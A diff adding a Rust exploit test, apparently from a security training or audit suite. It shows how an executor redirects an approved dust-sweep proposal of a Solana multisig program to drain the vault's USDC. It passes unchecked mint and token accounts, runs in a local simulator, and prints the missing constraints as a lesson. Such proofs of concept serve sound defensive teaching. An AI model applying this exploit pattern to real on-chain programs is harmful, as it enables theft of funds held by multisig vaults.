@@ -0,0 +1,170 @@
+// Exploit: Token Sweep Redirect (Sweep Token Accounts Not Derived)
+//
+// Vulnerability: V023 - execute_sweep_proposal takes the mint and both token
+// accounts as passed, without deriving them from the proposal's mint and recipient.
+//
+// Attack: Owners approve sweeping a handful of stray tokens to the treasury. The
+// executor passes a different mint, the vault's ATA for it, and their own ATA.
+//
+// Result: Any token the vault holds can be drained by an executor holding any
+// approved sweep proposal, whatever mint and recipient it names.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::{types::TransactionResult, LiteSVM};
+use litesvm_token::{
+    get_spl_account, spl_token::state::Account as TokenAccount, CreateAssociatedTokenAccount,
+    CreateMint, MintTo,
+};
+use solana_sdk::{
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+};
+
+const DUST_AMOUNT: u64 = 10;
+const USDC_AMOUNT: u64 = 1_000_000_000_000;
+
+struct TokenSweepRedirect;
+
+struct TokenSweepRedirectState {
+    scenario: MultisigScenario,
+    proposal_pda: Pubkey,
+    usdc_mint: Pubkey,
+    vault_usdc_ata: Pubkey,
+    attacker_usdc_ata: Pubkey,
+    treasury_dust_ata: Pubkey,
+}
+
+fn token_amount(svm: &LiteSVM, address: &Pubkey) -> u64 {
+    get_spl_account::<TokenAccount>(svm, address).unwrap().amount
+}
+
+impl ExploitScenario for TokenSweepRedirect {
+    type State = TokenSweepRedirectState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V023",
+            title: "Token Sweep Redirect",
+            severity: Severity::Critical,
+            lesson: "Derive the sweep's token accounts from the proposal's mint and recipient",
+        }
+    }
+
+    fn setup(&self) -> TokenSweepRedirectState {
+        println!("[Scenario] Executor redirects an approved dust sweep to drain the vault's USDC");
+
+        let mut scenario = setup_multisig_scenario(1, 0);
+        let owners = vec![
+            (scenario.creator.pubkey(), MemberRole::Admin),
+            (scenario.attacker.pubkey(), MemberRole::Executor), // malicious executor
+        ];
+        create_multisig_with_owners(
+            &mut scenario.svm,
+            &scenario.creator,
+            &scenario.multisig_pda,
+            &scenario.vault_pda,
+            scenario.multisig_id,
+            1, // threshold
+            0, // timelock
+            &owners,
+        );
+
+        // The vault holds stray dust tokens and its real USDC balance
+        let creator = &scenario.creator;
+        let svm = &mut scenario.svm;
+        let dust_mint = CreateMint::new(svm, creator).decimals(6).send().unwrap();
+        let usdc_mint = CreateMint::new(svm, creator).decimals(6).send().unwrap();
+        let vault_dust_ata = CreateAssociatedTokenAccount::new(svm, creator, &dust_mint)
+            .owner(&scenario.vault_pda)
+            .send()
+            .unwrap();
+        MintTo::new(svm, creator, &dust_mint, &vault_dust_ata, DUST_AMOUNT).send().unwrap();
+        let vault_usdc_ata = CreateAssociatedTokenAccount::new(svm, creator, &usdc_mint)
+            .owner(&scenario.vault_pda)
+            .send()
+            .unwrap();
+        MintTo::new(svm, creator, &usdc_mint, &vault_usdc_ata, USDC_AMOUNT).send().unwrap();
+
+        let treasury = Keypair::new();
+        let treasury_dust_ata = CreateAssociatedTokenAccount::new(svm, creator, &dust_mint)
+            .owner(&treasury.pubkey())
+            .send()
+            .unwrap();
+        let attacker_usdc_ata = CreateAssociatedTokenAccount::new(svm, creator, &usdc_mint)
+            .owner(&scenario.attacker.pubkey())
+            .send()
+            .unwrap();
+        println!("[Setup] Vault holds {} dust tokens and {} USDC", DUST_AMOUNT, USDC_AMOUNT);
+
+        // Admin proposes sweeping the dust to the treasury (auto-approved, threshold 1)
+        let proposal_count = get_multisig_proposal_count(svm, &scenario.multisig_pda);
+        let (proposal_pda, _) = derive_proposal_pda(&scenario.multisig_pda, proposal_count);
+        let mut fields = dust_mint.to_bytes().to_vec();
+        fields.extend_from_slice(&treasury.pubkey().to_bytes());
+        let ix = build_create_proposal_ix(
+            &creator.pubkey(),
+            &scenario.multisig_pda,
+            &proposal_pda,
+            ProposalTypeDiscriminator::SweepToken,
+            &fields,
+        );
+        send_tx_expect_success(svm, ix, creator, &[creator]);
+        println!("[Setup] Approved: sweep {} dust tokens to the treasury", DUST_AMOUNT);
+
+        TokenSweepRedirectState {
+            scenario,
+            proposal_pda,
+            usdc_mint,
+            vault_usdc_ata,
+            attacker_usdc_ata,
+            treasury_dust_ata,
+        }
+    }
+
+    fn exploit(&self, state: &mut TokenSweepRedirectState) -> TransactionResult {
+        let scenario = &mut state.scenario;
+
+        // EXPLOIT: Same proposal, different mint, vault account and destination
+        println!("\n[Attack] Executor passes the USDC mint, the vault's USDC ATA and their own ATA");
+
+        let ix = build_execute_sweep_proposal_ix(
+            &scenario.attacker.pubkey(),
+            &scenario.multisig_pda,
+            &state.proposal_pda,
+            &scenario.vault_pda,
+            &state.usdc_mint,
+            &state.vault_usdc_ata,
+            &state.attacker_usdc_ata,
+            &litesvm_token::spl_token::ID,
+        );
+        send_ix(&mut scenario.svm, ix, &scenario.attacker)
+    }
+
+    fn assert_impact(&self, state: &mut TokenSweepRedirectState) -> u64 {
+        let svm = &state.scenario.svm;
+        let stolen = token_amount(svm, &state.attacker_usdc_ata);
+
+        assert_eq!(stolen, USDC_AMOUNT);
+        assert_eq!(token_amount(svm, &state.vault_usdc_ata), 0);
+        assert_eq!(token_amount(svm, &state.treasury_dust_ata), 0);
+
+        println!("[VULNERABLE] A dust sweep proposal moved the vault's USDC!");
+        println!("[EXPLOIT SUCCESS] Attacker received: {} USDC", stolen);
+        println!("[EXPLOIT SUCCESS] Treasury received: 0 dust tokens");
+
+        println!("\n[Analysis] The vulnerable code is missing these constraints:");
+        println!("           associated_token::mint = mint,");
+        println!("           associated_token::authority = vault / recipient,");
+        println!("           require!(mint.key() == proposal mint, MultisigError::InvalidMint);");
+
+        stolen
+    }
+}
+
+#[test]
+fn test_exploit_token_sweep_redirect() {
+    run_exploit(&TokenSweepRedirect);
+}